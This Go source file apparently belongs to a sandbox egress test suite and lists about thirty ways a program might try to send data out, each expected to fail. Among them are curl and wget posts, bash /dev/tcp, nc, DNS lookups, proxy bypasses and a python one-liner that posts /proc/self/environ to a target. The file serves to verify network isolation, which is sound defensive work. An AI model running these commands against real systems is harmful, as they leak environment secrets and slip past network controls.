package leak

import (
	"context"
	"errors"
	"fmt"
	"os/exec"
	"runtime"
	"strings"
	"syscall"
	"time"
)

// program is a way that a program of the sandbox's image tries. It must fail,
// by itself and in time.
func program(name string, argv, env []string) way {
	tried := strings.Join(append(append([]string(nil), env...), argv...), " ")
	return way{group: "program", name: name, tried: tried, want: []Outcome{Failed}, program: true, try: func(ctx context.Context, p *probe) seen {
		path, err := exec.LookPath(argv[0])
		if err != nil {
			return notTried("%s is not installed", argv[0])
		}
		cmd := exec.CommandContext(ctx, path, argv[1:]...)
		cmd.Env = append(cmd.Environ(), env...)
		cmd.Stdin = strings.NewReader(p.message() + "\n")
		cmd.WaitDelay = time.Second
		out, err := cmd.CombinedOutput()
		said := firstLine(string(out))
		var exit *exec.ExitError
		switch {
		case ctx.Err() != nil:
			return seen{outcome: Silent, words: "it had to be ended: " + said}
		case errors.As(err, &exit):
			return seen{outcome: Failed, words: fmt.Sprintf("%v: %s", err, said)}
		case err != nil:
			return open("%v: %s", err, said)
		}
		return open("it succeeded: %s", said)
	}}
}

// programs are what people and agents use to send something.
func (a Aim) programs() []way {
	at := a.targets()[0].at
	name := a.Token + "." + outside
	url := "http://" + at + "/" + a.Token
	named := "https://" + name + "/"
	host, port, _ := strings.Cut(at, ":")
	if i := strings.LastIndex(at, ":"); i >= 0 {
		host, port = strings.Trim(at[:i], "[]"), at[i+1:]
	}
	bare := []string{"http_proxy=", "https_proxy=", "HTTP_PROXY=", "HTTPS_PROXY=", "ALL_PROXY=", "all_proxy=", "NO_PROXY=*", "no_proxy=*"}
	proxied := []string{"http_proxy=http://" + at, "https_proxy=http://" + at, "ALL_PROXY=socks5h://" + at}
	short := "import urllib.request as u; u.urlopen(u.Request(%q, data=open('/proc/self/environ','rb').read()), timeout=4)"
	var list []way
	add := func(name string, env []string, argv ...string) { list = append(list, program(name, argv, env)) }
	add("curl", nil, "curl", "-sS", "-m", "4", "--data-binary", "@-", url)
	add("curl by name", nil, "curl", "-sS", "-m", "4", "--data-binary", "@-", named)
	add("curl without proxies", bare, "curl", "-sS", "-m", "4", "--data-binary", "@-", url)
	add("curl through a proxy of its own", proxied, "curl", "-sS", "-m", "4", "--data-binary", "@-", named)
	add("curl with a name resolved by itself", nil, "curl", "-sSk", "-m", "4", "--resolve", "pypi.org:"+port+":"+host, "https://pypi.org:"+port+"/")
	add("curl by ftp", nil, "curl", "-sS", "-m", "4", "-T", "-", "ftp://"+at+"/x")
	add("curl by tftp", nil, "curl", "-sS", "-m", "4", "-T", "-", "tftp://"+at+"/x")
	add("curl by smtp", nil, "curl", "-sS", "-m", "4", "--mail-from", "a@example.org", "--mail-rcpt", "b@example.org", "-T", "-", "smtp://"+at)
	add("curl by gopher", nil, "curl", "-sS", "-m", "4", "gopher://"+at+"/1"+a.Token)
	add("wget", nil, "wget", "-q", "-T", "4", "-t", "1", "-O", "-", "--post-data", a.Token, url)
	add("bash, /dev/tcp", nil, "bash", "-c", `cat >"/dev/tcp/$0/$1"`, host, port)
	add("bash, /dev/tcp by name", nil, "bash", "-c", `cat >"/dev/tcp/$0/443"`, name)
	add("getent", nil, "getent", "ahosts", name)
	add("python urllib", nil, "python3", "-c", fmt.Sprintf(short, url))
	add("python urllib without proxies", bare, "python3", "-c", fmt.Sprintf(short, url))
	add("python urllib by name", nil, "python3", "-c", fmt.Sprintf(short, named))
	add("python smtplib", nil, "python3", "-c", "import smtplib,sys; smtplib.SMTP(sys.argv[1], int(sys.argv[2]), timeout=4)", host, port)
	add("python ftplib", nil, "python3", "-c", "import ftplib,sys; ftplib.FTP().connect(sys.argv[1], int(sys.argv[2]), 4)", host, port)
	add("perl", nil, "perl", "-MIO::Socket::INET", "-e", `my $s = IO::Socket::INET->new(PeerAddr => $ARGV[0], PeerPort => $ARGV[1], Timeout => 4) or die $@; print $s <STDIN>`, host, port)
	add("node", nil, "node", "-e", "fetch(process.argv[1],{method:'POST',body:'x',signal:AbortSignal.timeout(4000)}).then(()=>process.exit(0),e=>{console.error(String(e.cause||e));process.exit(3)})", url)
	add("git over https", []string{"GIT_TERMINAL_PROMPT=0"}, "git", "-c", "http.lowSpeedTime=4", "ls-remote", named+"x.git")
	add("git over http to an address", []string{"GIT_TERMINAL_PROMPT=0"}, "git", "ls-remote", url+".git")
	add("git protocol", nil, "git", "ls-remote", "git://"+at+"/"+a.Token)
	add("git over ssh", []string{"GIT_SSH_COMMAND=ssh -o BatchMode=yes -o ConnectTimeout=4 -o StrictHostKeyChecking=no"}, "git", "ls-remote", "ssh://git@"+at+"/"+a.Token)
	add("pip", []string{"PIP_DISABLE_PIP_VERSION_CHECK=1"}, "python3", "-m", "pip", "download", "--no-cache-dir", "--retries", "0", "--timeout", "4", "-d", "/tmp/lab-pip", "--index-url", "https://"+a.Token+":x@"+name+"/simple", a.Token)
	add("npm", []string{"HOME=/tmp/lab-npm"}, "npm", "view", a.Token, "--registry", named, "--fetch-retries", "0", "--fetch-timeout", "4000", "--no-update-notifier", "--cache", "/tmp/lab-npm")
	add("go", []string{"GOPROXY=" + named, "GOFLAGS=-mod=mod", "HOME=/tmp/lab-go", "GONOSUMDB=*", "GOTOOLCHAIN=local"}, "go", "list", "-m", "example.org/"+a.Token+"@latest")
	add("ssh", nil, "ssh", "-o", "BatchMode=yes", "-o", "ConnectTimeout=4", "-o", "StrictHostKeyChecking=no", "-p", port, a.Token+"@"+host)
	add("openssl", nil, "openssl", "s_client", "-quiet", "-connect", at)
	add("nc", nil, "nc", "-w", "4", host, port)
	add("ping", nil, "ping", "-c", "1", "-W", "2", "-p", "6c65616b", "192.0.2.1")
	add("ping by IPv6", nil, "ping", "-6", "-c", "1", "-W", "2", "2001:db8::1")
	add("dig", nil, "dig", "+short", "+fail", "+time=2", "+tries=1", "@192.0.2.1", name, "TXT")
	return list
}

// thread runs f in a thread that ends with it, whatever it did to itself.
func thread(f func() seen) seen {
	done := make(chan seen)
	go func() {
		runtime.LockOSThread() // and never unlocked
		done <- f()
	}()
	return <-done
}

func isInUse(err error) bool { return errors.Is(err, syscall.EADDRINUSE) }
